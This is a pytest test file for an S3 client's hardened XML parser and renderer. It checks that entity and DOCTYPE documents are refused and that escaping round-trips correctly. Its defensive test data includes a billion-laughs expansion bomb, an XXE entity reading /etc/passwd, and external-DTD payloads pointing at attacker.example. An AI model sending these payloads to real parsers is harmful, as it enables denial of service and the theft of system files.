"""The hardened XML parser and the renderer."""

from __future__ import annotations

import pytest

from s3_asyncio_client.protocol.documents import S3_NAMESPACE, parse_xml, render, representable
from s3_asyncio_client.protocol.errors import RemoteProtocolError

REFUSED = "refusing an XML document with a DOCTYPE or ENTITY declaration"

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<ListBucketResult><Name>&lol9;</Name></ListBucketResult>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE Error [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Error><Code>&xxe;</Code></Error>"""


@pytest.mark.parametrize(
    "body",
    [
        BILLION_LAUGHS,
        EXTERNAL_ENTITY,
        b'<!doctype r SYSTEM "http://attacker.example/evil.dtd"><r/>',
        b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><r/>',
        b"<r/><!ENTITY x 'y'>",
        b"   \n<!DocType r><r/>",
    ],
    ids=[
        "billion-laughs",
        "external-entity",
        "external-dtd",
        "parameter-entity",
        "entity",
        "mixed-case",
    ],
)
def test_doctype_and_entity_documents_are_refused_before_parsing(body: bytes) -> None:
    # The message is the pre-check's own, not an expat error: nothing was parsed.
    with pytest.raises(RemoteProtocolError, match=REFUSED):
        parse_xml(body)


def test_utf16_entity_document_is_refused() -> None:
    body = (
        '<?xml version="1.0" encoding="UTF-16"?>'
        '<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        "<r>&b;</r>"
    ).encode("utf-16")
    with pytest.raises(RemoteProtocolError):
        parse_xml(body)


@pytest.mark.parametrize(
    "body", [b"", b"   ", b"<Error><Code>x</Code>", b"<a></b>", b"\xff\xfe\x00garbage", b"text"]
)
def test_malformed_documents_are_server_errors(body: bytes) -> None:
    with pytest.raises(RemoteProtocolError, match="malformed XML reply"):
        parse_xml(body)


def test_node_lookups_ignore_the_namespace() -> None:
    body = (f'<R xmlns="{S3_NAMESPACE}"><A>1</A><B/><A>2</A><C><D>deep</D></C></R>').encode()
    root = parse_xml(body)
    assert root.tag == "R"
    assert [node.text for node in root.children("A")] == ["1", "2"]
    assert [node.tag for node in root.children()] == ["A", "B", "A", "C"]
    assert root.find_text("A") == "1"
    assert root.find_text("B") == ""
    assert root.find_text("Missing") is None
    assert root.find_text("Missing", "fallback") == "fallback"
    assert root.child("Missing") is None
    child = root.child("C")
    assert child is not None
    assert child.find_text("D") == "deep"


def test_text_entities_and_character_references_are_decoded() -> None:
    root = parse_xml(b"<K>a&amp;b&lt;c&gt;d&quot;e&apos;f&#13;g&#x1F600;</K>")
    assert root.text == "a&b<c>d\"e'f\rg😀"


# --- render ------------------------------------------------------------------------------


def test_render_escapes_markup_characters() -> None:
    body = render("Delete", [("Object", {"Key": "a&b<c>d"})])
    assert body == (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<Delete xmlns="http://s3.amazonaws.com/doc/2006-03-01/">'
        b"<Object><Key>a&amp;b&lt;c&gt;d</Key></Object></Delete>"
    )


def test_render_scalars_nesting_and_none() -> None:
    body = render(
        "Root",
        [
            ("Flag", True),
            ("Off", False),
            ("Number", 42),
            ("Skipped", None),
            ("Nested", [("A", "1"), ("B", {"C": "2"})]),
            ("Empty", []),
        ],
        namespace=False,
    )
    assert body == (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b"<Root><Flag>true</Flag><Off>false</Off><Number>42</Number>"
        b"<Nested><A>1</A><B><C>2</C></B></Nested><Empty></Empty></Root>"
    )


def test_render_encodes_utf8() -> None:
    assert render("K", [("V", "日本")], namespace=False).endswith("<K><V>日本</V></K>".encode())


@pytest.mark.parametrize(
    "value",
    [
        "plain",
        "a&b",
        "<Error>",
        "]]>",
        "quote\"s and 'apostrophes'",
        "tab\there",
        "ünï😀",
        "  spaces  ",
        "line\nbreak",
        "&amp;",
    ],
)
def test_render_then_parse_round_trips(value: str) -> None:
    root = parse_xml(render("Delete", [("Object", {"Key": value}), ("Quiet", True)]))
    assert root.tag == "Delete"
    obj = root.child("Object")
    assert obj is not None
    assert obj.find_text("Key") == value
    assert root.find_text("Quiet") == "true"


@pytest.mark.parametrize("value", ["a\rb", "a\r\nb"])
def test_render_then_parse_round_trips_carriage_returns(value: str) -> None:
    assert parse_xml(render("K", [("V", value)])).find_text("V") == value


# --- characters XML 1.0 cannot carry ---------------------------------------------------

UNCARRIED = [chr(cp) for cp in (*range(0x09), 0x0B, 0x0C, *range(0x0E, 0x20), 0xFFFE, 0xFFFF)]


def test_render_writes_uncarried_characters_as_references_as_s3_does() -> None:
    body = render("R", [("Key", "a\x01b\x0b\x1f\x7f\rc")], namespace=False)
    assert body.endswith(b"<R><Key>a&#x1;b&#xb;&#x1f;\x7f&#13;c</Key></R>")


@pytest.mark.parametrize("value", ["a\x01b", "\x0b", "\uffff", "x\x1fy"])
def test_strict_render_refuses_uncarried_characters(value: str) -> None:
    with pytest.raises(ValueError, match="XML cannot carry"):
        render("Delete", [("Object", {"Key": value})], strict=True)


def test_every_uncarried_character_round_trips() -> None:
    value = "".join(UNCARRIED) + "tail"
    assert not representable(value)
    assert representable("tab\tline\ncr\r\x7f")
    assert parse_xml(render("K", [("V", value)])).find_text("V") == value


def test_parser_reads_s3s_references_to_control_characters() -> None:
    """S3 writes them in CreateMultipartUpload, ListParts, ... replies (hex or decimal)."""
    root = parse_xml(b"<R><Key>a&#x1;b&#x1F;c&#3;d&#x41;</Key><K2>&#x1;</K2></R>")
    assert root.find_text("Key") == "a\x01b\x1fc\x03dA"
    assert root.find_text("K2") == "\x01"


def test_stand_ins_never_collide_with_the_documents_own_characters() -> None:
    # The first private-use characters, literal and as references, beside &#x1;.
    body = "<R><A>\ue000\ue001&#xE002;</A><B>&#x1;&#x2;</B></R>".encode()
    root = parse_xml(body)
    assert root.find_text("A") == "\ue000\ue001\ue002"
    assert root.find_text("B") == "\x01\x02"


def test_references_inside_cdata_stay_text() -> None:
    assert parse_xml(b"<R><A><![CDATA[a&#x1;b]]></A></R>").find_text("A") == "a&#x1;b"


def test_strict_parser_refuses_references_to_control_characters() -> None:
    """A request document: S3 answers MalformedXML to ``&#x1;`` in one."""
    with pytest.raises(RemoteProtocolError, match="malformed XML reply"):
        parse_xml(b"<Delete><Object><Key>a&#x1;b</Key></Object></Delete>", strict=True)
    assert parse_xml(b"<K>a&#13;b</K>", strict=True).text == "a\rb"


def test_references_to_characters_nothing_can_carry_stay_malformed() -> None:
    for body in (b"<K>&#xD800;</K>", b"<K>&#x110000;</K>"):
        with pytest.raises(RemoteProtocolError, match="malformed XML reply"):
            parse_xml(body)


def test_parser_reads_raw_control_characters_some_servers_send() -> None:
    body = b"<R><Key>d\x02e\x1f&#x1;</Key></R>"
    assert parse_xml(body).find_text("Key") == "d\x02e\x1f\x01"
    with pytest.raises(RemoteProtocolError, match="malformed XML reply"):
        parse_xml(body, strict=True)
